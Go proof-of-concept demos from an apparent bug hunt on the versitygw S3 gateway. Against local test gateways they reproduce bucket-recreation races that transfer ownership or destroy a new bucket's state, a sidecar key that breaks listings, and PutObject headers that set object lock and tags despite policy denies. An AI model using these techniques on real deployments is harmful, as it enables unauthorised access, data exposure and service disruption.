	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const (
	access = "hunt"
	secret = "huntsecret"
	region = "us-east-1"
)

// call describes one call into the metadata store
type call struct {
	op     string // Retrieve, Store, Delete, List, DeleteAll
	bucket string
	object string
	attr   string
	hasFd  bool
}

// crashMeta forwards to the real store; armed, it kills the process right
// before the first call that matches.
type crashMeta struct {
	inner meta.MetadataStorer
	armed atomic.Bool
	match func(c call) bool
}

func (m *crashMeta) hit(c call) {
	// HUNT_DISARM=1 is the control run: same history, no kill
	if m.armed.Load() && m.match != nil && m.match(c) && os.Getenv("HUNT_DISARM") == "" {
		syscall.Kill(os.Getpid(), syscall.SIGKILL)
		select {} // never get past the crash point
	}
}

func (m *crashMeta) RetrieveAttribute(f *os.File, bucket, object, attribute string) ([]byte, error) {
	m.hit(call{"Retrieve", bucket, object, attribute, f != nil})
	return m.inner.RetrieveAttribute(f, bucket, object, attribute)
}

func (m *crashMeta) StoreAttribute(f *os.File, bucket, object, attribute string, value []byte) error {
	m.hit(call{"Store", bucket, object, attribute, f != nil})
	return m.inner.StoreAttribute(f, bucket, object, attribute, value)
}

func (m *crashMeta) DeleteAttribute(bucket, object, attribute string) error {
	m.hit(call{"Delete", bucket, object, attribute, false})
	return m.inner.DeleteAttribute(bucket, object, attribute)
}

func (m *crashMeta) ListAttributes(bucket, object string) ([]string, error) {
	m.hit(call{"List", bucket, object, "", false})
	return m.inner.ListAttributes(bucket, object)
}

func (m *crashMeta) DeleteAttributes(bucket, object string) error {
	m.hit(call{"DeleteAll", bucket, object, "", false})
	return m.inner.DeleteAttributes(bucket, object)
}

type gateway struct {
	cli  *s3.Client
	meta *crashMeta
}

// startGateway brings up the gateway on root (and versioning directory vdir,
// "" for none) with the xattr metadata store and returns a client for it.
func startGateway(root, vdir string, noTmpFile bool) (*gateway, error) {
	cm := &crashMeta{inner: meta.XattrMeta{}}
	be, err := posix.New(root, cm, posix.PosixOpts{
		VersioningDir:  vdir,
		NewDirPerm:     0755,
		ForceNoTmpFile: noTmpFile,
	})
	if err != nil {
		return nil, fmt.Errorf("posix.New: %w", err)
	}

	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	root_ := auth.Account{Access: access, Secret: secret, Role: auth.RoleAdmin}
	_, err = s3api.New(app, be,
		middlewares.RootUserConfig{Access: access, Secret: secret},
		":0", region, auth.NewIAMServiceSingle(root_), nil, nil, nil, nil,
		s3api.WithQuiet())
	if err != nil {
		return nil, fmt.Errorf("s3api.New: %w", err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	go app.Listener(ln)

	cli := s3.New(s3.Options{
		Region:           region,
		BaseEndpoint:     aws.String("http://" + ln.Addr().String()),
		UsePathStyle:     true,
		Credentials:      credentials.NewStaticCredentialsProvider(access, secret, ""),
		RetryMaxAttempts: 1,
	})
	return &gateway{cli: cli, meta: cm}, nil
}

// scratch creates root and versioning directories under /dev/shm
func scratch(name string) (base, root, vdir string) {
	base, err := os.MkdirTemp("/dev/shm", name+"-")
	must(err, "scratch dir")
	root = filepath.Join(base, "root")
	vdir = filepath.Join(base, "versions")
	must(os.Mkdir(root, 0755), "mkdir root")
	must(os.Mkdir(vdir, 0755), "mkdir versions")
	return base, root, vdir
}

// runCrashPhase re-executes this binary with HUNT_PHASE=crash and expects it
// to die of SIGKILL (the armed crash point).
func runCrashPhase(env ...string) {
	exe, err := os.Executable()
	must(err, "executable")
	cmd := exec.Command(exe)
	cmd.Env = append(os.Environ(), "HUNT_PHASE=crash")
	cmd.Env = append(cmd.Env, env...)
	cmd.Stdout = os.Stdout
	cmd.Stderr = os.Stderr
	err = cmd.Run()
	if err == nil {
		// the crash point was not reached (e.g. after a repair that no
		// longer makes the call): the operation completed, go on and check
		fmt.Println("note: the armed crash point was not reached, the operation completed")
		return
	}
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		if ws, ok := ee.Sys().(syscall.WaitStatus); ok && ws.Signaled() && ws.Signal() == syscall.SIGKILL {
			return
		}
	}
	fmt.Printf("SETUP PROBLEM: the crash phase did not end in SIGKILL: %v\n", err)
	os.Exit(2)
}

func ctxT() context.Context {
	ctx, _ := context.WithTimeout(context.Background(), 20*time.Second)
	return ctx
}

func must(err error, what string) {
	if err != nil {
		fmt.Printf("SETUP PROBLEM: %s: %v\n", what, err)
		os.Exit(2)
	}
}

// errCode gives the S3 error code of err ("" for nil)
func errCode(err error) string {
	if err == nil {
		return ""
	}
	var ae smithy.APIError
	if errors.As(err, &ae) {
		return ae.ErrorCode()
	}
	return err.Error()
}
