//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

type cred struct{ access, secret string }

type gw struct {
	addr string
	app  *fiber.App
	iam  auth.IAMService
	root cred
}

func startGW(be backend.Backend, iam auth.IAMService, root cred, opts ...s3api.Option) *gw {
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		DisableStartupMessage: true,
	})
	opts = append(opts, s3api.WithQuiet(), s3api.WithAdminServer())
	_, err := s3api.New(app, be, middlewares.RootUserConfig{Access: root.access, Secret: root.secret},
		":0", "us-east-1", iam, nil, nil, nil, nil, opts...)
	if err != nil {
		panic(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	go app.Listener(ln)
	return &gw{addr: "http://" + ln.Addr().String(), app: app, iam: iam, root: root}
}

type resp struct {
	status int
	body   string
	hdr    http.Header
}

func (g *gw) do(c cred, method, pathq string, body []byte, hdrs ...string) resp {
	req, err := http.NewRequest(method, g.addr+pathq, bytes.NewReader(body))
	if err != nil {
		panic(err)
	}
	for i := 0; i+1 < len(hdrs); i += 2 {
		req.Header.Set(hdrs[i], hdrs[i+1])
	}
	sum := sha256.Sum256(body)
	hexsum := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hexsum)
	err = v4.NewSigner().SignHTTP(context.Background(),
		aws.Credentials{AccessKeyID: c.access, SecretAccessKey: c.secret},
		req, hexsum, "s3", "us-east-1", time.Now())
	if err != nil {
		panic(err)
	}
	r, err := http.DefaultClient.Do(req)
	if err != nil {
		panic(err)
	}
	defer r.Body.Close()
	b, _ := io.ReadAll(r.Body)
	return resp{status: r.StatusCode, body: string(b), hdr: r.Header}
}

func mustDir(p string) string {
	os.RemoveAll(p)
	if err := os.MkdirAll(p, 0755); err != nil {
		panic(err)
	}
	return p
}

func show(tag string, r resp) {
	b := r.body
	if i := strings.Index(b, "<Error>"); i >= 0 {
		b = b[i:]
		if j := strings.Index(b, "<Resource>"); j >= 0 {
			b = b[:j]
		}
	}
	if len(b) > 600 {
		b = b[:600] + "..."
	}
	fmt.Printf("%-40s -> %d %s\n", tag, r.status, b)
}

// errCode extracts <Code>...</Code> of an S3 error body ("" if none)
func errCode(r resp) string {
	i := strings.Index(r.body, "<Code>")
	j := strings.Index(r.body, "</Code>")
	if i < 0 || j < i {
		return ""
	}
	return r.body[i+6 : j]
}

func (r resp) String() string {
	if c := errCode(r); c != "" {
		return fmt.Sprintf("%d %s", r.status, c)
	}
	return fmt.Sprintf("%d", r.status)
}
