//go:build huntdemo

// A request that writes a bucket setting is authorised against the ACL the
// middleware read at its start, and stores the setting later, by bucket NAME.
// When the bucket is deleted and a bucket of the same name is created by
// somebody else in between, the write lands on the NEW bucket: here the old
// owner's PutBucketAcl makes her the owner of the other user's bucket and of
// the objects in it (default configuration: xattr store, no versioning).
//
// The schedule is made deterministic by wrapping the metadata store: the
// StoreAttribute("acl") call of alice's PutBucketAcl waits until the
// DeleteBucket, the CreateBucket and the upload have been answered.
package main

import (
	"fmt"
	"os"
	"strings"
	"sync"
	"sync/atomic"

	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

// pausingStore is the real store plus one yield point
type pausingStore struct {
	meta.MetadataStorer
	armed   *atomic.Bool
	once    *sync.Once
	reached chan struct{}
	resume  chan struct{}
}

func (s pausingStore) StoreAttribute(f *os.File, bucket, object, attribute string, value []byte) error {
	if s.armed.Load() && bucket == "racebkt" && object == "" && attribute == "acl" {
		s.once.Do(func() {
			close(s.reached)
			<-s.resume
		})
	}
	return s.MetadataStorer.StoreAttribute(f, bucket, object, attribute, value)
}

func main() {
	base := mustDir("/dev/shm/hunt-C16-3")
	defer os.RemoveAll(base)
	root := mustDir(base + "/root")
	iamdir := mustDir(base + "/iam")

	store := pausingStore{MetadataStorer: meta.XattrMeta{}, armed: new(atomic.Bool), once: new(sync.Once),
		reached: make(chan struct{}), resume: make(chan struct{})}
	be, err := posix.New(root, store, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		panic(err)
	}
	rootc := cred{"rootaccess", "rootsecret"}
	iam, err := auth.New(&auth.Opts{RootAccount: auth.Account{Access: rootc.access, Secret: rootc.secret, Role: auth.RoleAdmin}, Dir: iamdir, CacheDisable: true})
	if err != nil {
		panic(err)
	}
	for _, u := range []string{"alice", "bob"} {
		if err := iam.CreateAccount(auth.Account{Access: u, Secret: u + "secret", Role: auth.RoleUserPlus}); err != nil {
			panic(err)
		}
	}
	alice, bob := cred{"alice", "alicesecret"}, cred{"bob", "bobsecret"}
	g := startGW(be, iam, rootc)

	var bad []string
	check := func(what string, r resp, want string) {
		got := r.String()
		mark := "ok "
		if got != want {
			mark = "BAD"
			bad = append(bad, fmt.Sprintf("%s: %s (want %s)", what, got, want))
		}
		fmt.Printf("  %s %-58s -> %-22s want %s\n", mark, what, got, want)
	}
	lists := func(what string, r resp, want bool) {
		got := strings.Contains(r.body, "<Name>racebkt</Name>")
		mark := "ok "
		if r.status != 200 || got != want {
			mark = "BAD"
			bad = append(bad, fmt.Sprintf("%s: %d, lists racebkt: %v (want %v)", what, r.status, got, want))
		}
		fmt.Printf("  %s %-58s -> %d lists racebkt: %-5v want %v\n", mark, what, r.status, got, want)
	}

	check("alice PUT /racebkt (create, ACLs enabled, stays empty)", g.do(alice, "PUT", "/racebkt", nil, "X-Amz-Object-Ownership", "BucketOwnerPreferred"), "200")

	fmt.Println("alice PUT /racebkt?acl (x-amz-acl: private) starts; it is authorised against her ACL and has not stored anything yet:")
	store.armed.Store(true)
	aclDone := make(chan resp)
	go func() { aclDone <- g.do(alice, "PUT", "/racebkt?acl", nil, "X-Amz-Acl", "private") }()
	<-store.reached
	store.armed.Store(false)

	check("alice DELETE /racebkt", g.do(alice, "DELETE", "/racebkt", nil), "204")
	check("bob   PUT /racebkt (create)", g.do(bob, "PUT", "/racebkt", nil), "200")
	check("bob   PUT /racebkt/secret", g.do(bob, "PUT", "/racebkt/secret", []byte("bob's data")), "200")
	lists("bob   GET / (ListBuckets)", g.do(bob, "GET", "/", nil), true)

	fmt.Println("alice's PutBucketAcl continues:")
	close(store.resume)
	r := <-aclDone
	fmt.Printf("      %-58s -> %s\n", "alice PUT /racebkt?acl", r)

	fmt.Println("bob's bucket afterwards:")
	r = g.do(rootc, "GET", "/racebkt?acl", nil)
	owner := "?"
	if i := strings.Index(r.body, "<Owner><ID>"); i >= 0 {
		owner = r.body[i+11:]
		owner = owner[:strings.Index(owner, "<")]
	}
	mark := "ok "
	if owner != "bob" {
		mark = "BAD"
		bad = append(bad, "the owner of the bucket bob created is "+owner)
	}
	fmt.Printf("  %s %-58s -> owner %-16s want owner bob\n", mark, "admin GET /racebkt?acl", owner)
	lists("bob   GET / (ListBuckets)", g.do(bob, "GET", "/", nil), true)
	lists("alice GET / (ListBuckets)", g.do(alice, "GET", "/", nil), false)
	check("bob   GET /racebkt/secret (his object in his bucket)", g.do(bob, "GET", "/racebkt/secret", nil), "200")
	r = g.do(alice, "GET", "/racebkt/secret", nil)
	check("alice GET /racebkt/secret", r, "403 AccessDenied")
	if r.status == 200 {
		fmt.Printf("      alice read: %q\n", r.body)
	}

	if len(bad) > 0 {
		fmt.Printf("VIOLATION: a PutBucketAcl authorised against the deleted bucket was stored on the bucket another user created under that name (owner, ACL and ListBuckets changed, data exposed): %d wrong answers, first: %s\n", len(bad), bad[0])
		os.Exit(1)
	}
	fmt.Println("OK: the new bucket kept its owner and ACL")
}
