//go:build huntdemo

// DeleteBucket removes the bucket directory first (which frees the name) and
// only then the bucket's attributes in the metadata store and the bucket's
// directory in the versioning directory.  A CreateBucket of the same name that
// is acknowledged in between gets its owner, ACL and settings (sidecar store)
// and the acknowledged object versions of the new bucket (any store, with a
// versioning directory) removed by the tail of the old bucket's deletion.
//
// The schedule is made deterministic by wrapping the metadata store: the
// DeleteAttributes(bucket, "") call of posix.DeleteBucket, which sits exactly
// between the two removals, waits until the other requests have been answered.
package main

import (
	"fmt"
	"os"
	"strings"
	"sync"

	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

// pausingStore is the real store plus one yield point
type pausingStore struct {
	meta.MetadataStorer
	once    *sync.Once
	reached chan struct{}
	resume  chan struct{}
}

func (s pausingStore) DeleteAttributes(bucket, object string) error {
	if bucket == "racebkt" && object == "" {
		s.once.Do(func() {
			close(s.reached)
			<-s.resume
		})
	}
	return s.MetadataStorer.DeleteAttributes(bucket, object)
}

func main() {
	base := mustDir("/dev/shm/hunt-C16-2")
	defer os.RemoveAll(base)
	root := mustDir(base + "/root")
	side := mustDir(base + "/sidecar")
	vers := mustDir(base + "/versions")
	iamdir := mustDir(base + "/iam")

	var inner meta.MetadataStorer
	opts := posix.PosixOpts{NewDirPerm: 0755, VersioningDir: vers}
	if os.Getenv("HUNT_META") == "xattr" {
		inner = meta.XattrMeta{}
	} else {
		sc, err := meta.NewSideCar(side)
		if err != nil {
			panic(err)
		}
		inner, opts.SideCarDir = sc, side
	}
	store := pausingStore{MetadataStorer: inner, once: new(sync.Once), reached: make(chan struct{}), resume: make(chan struct{})}
	be, err := posix.New(root, store, opts)
	if err != nil {
		panic(err)
	}
	rootc := cred{"rootaccess", "rootsecret"}
	iam, err := auth.New(&auth.Opts{RootAccount: auth.Account{Access: rootc.access, Secret: rootc.secret, Role: auth.RoleAdmin}, Dir: iamdir, CacheDisable: true})
	if err != nil {
		panic(err)
	}
	for _, u := range []string{"alice", "bob"} {
		if err := iam.CreateAccount(auth.Account{Access: u, Secret: u + "secret", Role: auth.RoleUserPlus}); err != nil {
			panic(err)
		}
	}
	alice, bob := cred{"alice", "alicesecret"}, cred{"bob", "bobsecret"}
	g := startGW(be, iam, rootc)

	var bad []string
	check := func(what string, r resp, want string) {
		got := r.String()
		mark := "ok "
		if got != want {
			mark = "BAD"
			bad = append(bad, fmt.Sprintf("%s: %s (want %s)", what, got, want))
		}
		fmt.Printf("  %s %-58s -> %-28s want %s\n", mark, what, got, want)
	}
	contains := func(what string, r resp, sub string) {
		if r.status == 200 && !strings.Contains(r.body, sub) {
			bad = append(bad, fmt.Sprintf("%s: answer lacks %q", what, sub))
			fmt.Printf("  BAD %-58s    answer lacks %q\n", what, sub)
		}
	}

	check("alice PUT /racebkt (create, stays empty)", g.do(alice, "PUT", "/racebkt", nil), "200")

	fmt.Println("alice DELETE /racebkt starts; it has removed the bucket directory, the rest of the deletion is still to come:")
	delDone := make(chan resp)
	go func() { delDone <- g.do(alice, "DELETE", "/racebkt", nil) }()
	<-store.reached

	check("bob   PUT /racebkt (create)", g.do(bob, "PUT", "/racebkt", nil), "200")
	check("bob   PUT /racebkt?versioning Enabled", g.do(bob, "PUT", "/racebkt?versioning", []byte(`<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>`)), "200")
	check("bob   PUT /racebkt?tagging team=blue", g.do(bob, "PUT", "/racebkt?tagging", []byte(`<Tagging><TagSet><Tag><Key>team</Key><Value>blue</Value></Tag></TagSet></Tagging>`)), "204")
	p1 := g.do(bob, "PUT", "/racebkt/doc", []byte("first version"))
	check("bob   PUT /racebkt/doc \"first version\"", p1, "200")
	v1 := p1.hdr.Get("X-Amz-Version-Id")
	check("bob   PUT /racebkt/doc \"second version\"", g.do(bob, "PUT", "/racebkt/doc", []byte("second version")), "200")
	r := g.do(bob, "GET", "/racebkt/doc?versionId="+v1, nil)
	check("bob   GET /racebkt/doc?versionId=<first>", r, "200")

	fmt.Println("alice's DELETE continues:")
	close(store.resume)
	check("alice DELETE /racebkt", <-delDone, "204")

	fmt.Println("both were acknowledged; bob's bucket afterwards:")
	r = g.do(bob, "GET", "/", nil)
	check("bob   GET / (ListBuckets)", r, "200")
	contains("bob   ListBuckets", r, "<Name>racebkt</Name>")
	r = g.do(bob, "GET", "/racebkt?acl", nil)
	check("bob   GET /racebkt?acl", r, "200")
	contains("bob   GET /racebkt?acl", r, "<Owner><ID>bob</ID>")
	r = g.do(bob, "GET", "/racebkt?versioning", nil)
	check("bob   GET /racebkt?versioning", r, "200")
	contains("bob   GET /racebkt?versioning", r, "<Status>Enabled</Status>")
	r = g.do(bob, "GET", "/racebkt?tagging", nil)
	check("bob   GET /racebkt?tagging", r, "200")
	contains("bob   GET /racebkt?tagging", r, "<Key>team</Key><Value>blue</Value>")
	r = g.do(rootc, "GET", "/racebkt/doc?versionId="+v1, nil)
	check("root  GET /racebkt/doc?versionId=<first>", r, "200")
	if r.status == 200 && r.body != "first version" {
		bad = append(bad, "first version reads "+r.body)
	}
	r = g.do(rootc, "GET", "/racebkt?versions", nil)
	check("root  GET /racebkt?versions", r, "200")
	contains("root  GET /racebkt?versions", r, "<VersionId>"+v1+"</VersionId>")

	if len(bad) > 0 {
		fmt.Printf("VIOLATION: DeleteBucket(old racebkt) and CreateBucket(new racebkt) + uploads were all acknowledged, the tail of the deletion destroyed state of the NEW bucket: %d wrong answers, first: %s\n", len(bad), bad[0])
		os.Exit(1)
	}
	fmt.Println("OK: the new bucket kept its owner, settings and versions")
}
