//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const (
	access = "root"
	secret = "rootsecret"
	region = "us-east-1"
)

type gw struct {
	addr string
	app  *fiber.App
}

func startGW(be backend.Backend) *gw {
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		DisableStartupMessage: true,
	})
	iam := auth.NewIAMServiceSingle(auth.Account{Access: access, Secret: secret, Role: auth.RoleAdmin})
	_, err := s3api.New(app, be, middlewares.RootUserConfig{Access: access, Secret: secret},
		":0", region, iam, nil, nil, nil, nil, s3api.WithQuiet())
	if err != nil {
		fmt.Println("s3api.New:", err)
		os.Exit(2)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fmt.Println("listen:", err)
		os.Exit(2)
	}
	go app.Listener(ln)
	return &gw{addr: ln.Addr().String(), app: app}
}

// do sends a signed request. rawPathQuery is the request target exactly as
// it goes on the wire (already percent-encoded).
func (g *gw) do(method, rawPathQuery string, body []byte, hdr map[string]string) (int, string) {
	req, err := http.NewRequest(method, "http://"+g.addr+rawPathQuery, bytes.NewReader(body))
	if err != nil {
		fmt.Println("new request:", err)
		os.Exit(2)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	sum := sha256.Sum256(body)
	hexsum := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hexsum)
	signer := v4.NewSigner(func(o *v4.SignerOptions) { o.DisableURIPathEscaping = true })
	err = signer.SignHTTP(context.Background(), aws.Credentials{AccessKeyID: access, SecretAccessKey: secret},
		req, hexsum, "s3", region, time.Now())
	if err != nil {
		fmt.Println("sign:", err)
		os.Exit(2)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		fmt.Println("do:", err)
		os.Exit(2)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func (g *gw) must(method, rawPathQuery string, body []byte, hdr map[string]string) string {
	st, b := g.do(method, rawPathQuery, body, hdr)
	if st/100 != 2 {
		fmt.Printf("setup request %s %s failed: %d %s\n", method, rawPathQuery, st, b)
		os.Exit(2)
	}
	return b
}

// tags returns the text of every <name>...</name> element in order
func tags(xml, name string) []string {
	var out []string
	open, cl := "<"+name+">", "</"+name+">"
	for {
		i := strings.Index(xml, open)
		if i < 0 {
			return out
		}
		xml = xml[i+len(open):]
		j := strings.Index(xml, cl)
		if j < 0 {
			return out
		}
		out = append(out, xml[:j])
		xml = xml[j+len(cl):]
	}
}
