//go:build huntdemo

// Finding 3 (C07): with the sidecar metadata store (meta.SideCar, option
// --sidecar) one stored key whose last two path elements are "meta/etag"
// makes every ListObjects / ListObjectsV2 request without delimiter on that
// bucket fail with 500 InternalError. The key itself is stored and served.
//
// The sidecar store keeps the attributes of key K in <sidecar>/<bucket>/K/meta/<attr>.
// For the key "d/meta/etag" that is the directory <sidecar>/<bucket>/d/meta/etag/meta/.
// The listing walk asks, for every directory "d" it enters, whether "d/" is a
// directory object by reading the attribute file <sidecar>/<bucket>/d/meta/etag -
// which here is a directory: read fails with EISDIR, and the walk gives up.
package main

import (
	"fmt"
	"os"
	"sort"
	"strings"

	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

func main() {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c07-3-")
	if err != nil {
		fmt.Println("mkdtemp:", err)
		os.Exit(2)
	}
	code := run(base)
	os.RemoveAll(base)
	os.Exit(code)
}

func run(base string) int {
	root, side := base+"/root", base+"/side"
	os.MkdirAll(root, 0755)
	os.MkdirAll(side, 0755)
	sc, err := meta.NewSideCar(side)
	if err != nil {
		fmt.Println("NewSideCar:", err)
		return 2
	}
	be, err := posix.New(root, sc, posix.PosixOpts{NewDirPerm: 0755, SideCarDir: side})
	if err != nil {
		fmt.Println("posix.New:", err)
		return 2
	}
	g := startGW(be)

	// e.g. somebody copies a sidecar directory into a bucket as a backup
	keys := []string{"photos/a.jpg", "sidecar-backup/bkt/report.pdf/meta/etag"}
	sort.Strings(keys)
	g.must("PUT", "/bkt", nil, nil)
	for _, k := range keys {
		g.must("PUT", "/bkt/"+k, []byte("data of "+k), nil)
	}
	for _, k := range keys {
		if b := g.must("GET", "/bkt/"+k, nil, nil); b != "data of "+k {
			fmt.Println("unexpected object data", k, b)
			return 2
		}
	}

	var bad []string
	for _, q := range []string{"?list-type=2", "", "?list-type=2&prefix=photos%2F", "?list-type=2&max-keys=1"} {
		st, body := g.do("GET", "/bkt"+q, nil, nil)
		if st != 200 {
			bad = append(bad, fmt.Sprintf("GET /bkt%s -> %d %s", q, st, strings.Join(tags(body, "Code"), "")))
		}
	}
	if len(bad) != 0 {
		fmt.Printf("VIOLATION: bucket holds %q (both PUT 200 and readable), but listings fail: %s\n", keys, strings.Join(bad, "; "))
		return 1
	}
	fmt.Println("ok: the bucket can be listed")
	return 0
}
