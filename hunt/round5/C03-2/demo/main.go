//go:build huntdemo

// Property C03: an operation succeeds only if the policy allows the account
// the corresponding S3 action and no statement denies it.
//
// PutObject (also CopyObject and CreateMultipartUpload) that carries
// x-amz-object-lock-mode / -retain-until-date, x-amz-object-lock-legal-hold
// or x-amz-tagging performs PutObjectRetention, PutObjectLegalHold and
// PutObjectTagging on the new object, but the only decision taken is
// s3:PutObject. An account that is explicitly denied those three actions
// (and is refused on ?retention, ?legal-hold and ?tagging) places a
// COMPLIANCE retention until 2099, a legal hold and tags with one PUT.
// HEAD then shows it the lock state although s3:GetObjectRetention and
// s3:GetObjectLegalHold are denied as well.
package main

import (
	"fmt"
	"os"
	"strings"

	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/posix"
)

func main() {
	g := startPosixGateway("c03hunt2-", posix.PosixOpts{VersioningDir: "versions"}, false)
	owner := cred{"owner", "ownersecret"}
	user := cred{"user1", "user1secret"}
	g.mkuser(owner, auth.RoleUserPlus)
	g.mkuser(user, auth.RoleUser)

	expect(g.do(owner, "PUT", "/bkt", map[string]string{"X-Amz-Bucket-Object-Lock-Enabled": "true"}, nil), 200, "create bucket with object lock")
	// user1 is an uploader: it may write and read objects, and is explicitly
	// denied everything that concerns retention, legal hold and tags
	pol := `{"Statement":[
	 {"Effect":"Allow","Principal":"owner","Action":"s3:*","Resource":["arn:aws:s3:::bkt","arn:aws:s3:::bkt/*"]},
	 {"Effect":"Allow","Principal":"user1","Action":["s3:PutObject","s3:GetObject"],"Resource":"arn:aws:s3:::bkt/*"},
	 {"Effect":"Deny","Principal":"user1","Action":["s3:PutObjectRetention","s3:PutObjectLegalHold","s3:PutObjectTagging",
	   "s3:GetObjectRetention","s3:GetObjectLegalHold","s3:GetObjectTagging","s3:BypassGovernanceRetention"],"Resource":"arn:aws:s3:::bkt/*"}]}`
	expect(g.do(owner, "PUT", "/bkt?policy", nil, []byte(pol)), 200, "put policy")

	// controls: the dedicated operations are refused
	expect(g.do(user, "PUT", "/bkt/plain", nil, []byte("data")), 200, "control PutObject without extras")
	expect(g.do(user, "PUT", "/bkt/plain?retention", nil,
		[]byte(`<Retention><Mode>COMPLIANCE</Mode><RetainUntilDate>2099-01-01T00:00:00Z</RetainUntilDate></Retention>`)), 403, "control PutObjectRetention")
	expect(g.do(user, "PUT", "/bkt/plain?legal-hold", nil, []byte(`<LegalHold><Status>ON</Status></LegalHold>`)), 403, "control PutObjectLegalHold")
	expect(g.do(user, "PUT", "/bkt/plain?tagging", nil,
		[]byte(`<Tagging><TagSet><Tag><Key>a</Key><Value>b</Value></Tag></TagSet></Tagging>`)), 403, "control PutObjectTagging")
	expect(g.do(user, "GET", "/bkt/plain?retention", nil, nil), 403, "control GetObjectRetention")
	expect(g.do(user, "GET", "/bkt/plain?legal-hold", nil, nil), 403, "control GetObjectLegalHold")

	var violations []string

	r := g.do(user, "PUT", "/bkt/locked", map[string]string{
		"x-amz-object-lock-mode":              "COMPLIANCE",
		"x-amz-object-lock-retain-until-date": "2099-01-01T00:00:00Z",
		"x-amz-object-lock-legal-hold":        "ON",
		"x-amz-tagging":                       "a=b",
	}, []byte("data"))
	fmt.Printf("user1 PUT /bkt/locked with x-amz-object-lock-mode, -retain-until-date, -legal-hold, x-amz-tagging -> %v\n", r)

	ret := g.do(owner, "GET", "/bkt/locked?retention", nil, nil)
	fmt.Printf("owner GET /bkt/locked?retention -> %v %s\n", ret, strings.TrimSpace(ret.body[strings.Index(ret.body, "?>")+2:]))
	if r.status == 200 && ret.status == 200 && strings.Contains(ret.body, "COMPLIANCE") {
		violations = append(violations, "COMPLIANCE retention until 2099 stored (s3:PutObjectRetention is denied)")
	}
	lh := g.do(owner, "GET", "/bkt/locked?legal-hold", nil, nil)
	fmt.Printf("owner GET /bkt/locked?legal-hold -> %v\n", lh)
	if r.status == 200 && lh.status == 200 && strings.Contains(lh.body, "<Status>ON</Status>") {
		violations = append(violations, "legal hold ON stored (s3:PutObjectLegalHold is denied)")
	}
	tg := g.do(owner, "GET", "/bkt/locked?tagging", nil, nil)
	if r.status == 200 && tg.status == 200 && strings.Contains(tg.body, "<Key>a</Key>") {
		violations = append(violations, "tags stored (s3:PutObjectTagging is denied)")
	}
	del := g.do(rootCred, "DELETE", "/bkt/locked?versionId="+r.hdr.Get("x-amz-version-id"), nil, nil)
	note := ""
	if del.status >= 300 {
		note = " (not even root can remove the object before 2099)"
	}
	fmt.Printf("root DELETE /bkt/locked?versionId=%s -> %v%s\n", r.hdr.Get("x-amz-version-id"), del, note)

	h := g.do(user, "HEAD", "/bkt/locked", nil, nil)
	fmt.Printf("user1 HEAD /bkt/locked -> %d x-amz-object-lock-mode=%q x-amz-object-lock-retain-until-date=%q x-amz-object-lock-legal-hold=%q\n",
		h.status, h.hdr.Get("x-amz-object-lock-mode"), h.hdr.Get("x-amz-object-lock-retain-until-date"), h.hdr.Get("x-amz-object-lock-legal-hold"))
	if h.hdr.Get("x-amz-object-lock-mode") != "" || h.hdr.Get("x-amz-object-lock-legal-hold") != "" {
		violations = append(violations, "HEAD disclosed retention and legal hold (s3:GetObjectRetention / s3:GetObjectLegalHold are denied)")
	}

	g.cleanup()
	if len(violations) > 0 {
		fmt.Println("VIOLATION: one PutObject authorised as s3:PutObject only: " + strings.Join(violations, "; "))
		os.Exit(1)
	}
	fmt.Println("OK: the denied actions were not performed through PutObject")
}
