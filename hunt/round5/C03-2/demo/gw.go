//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
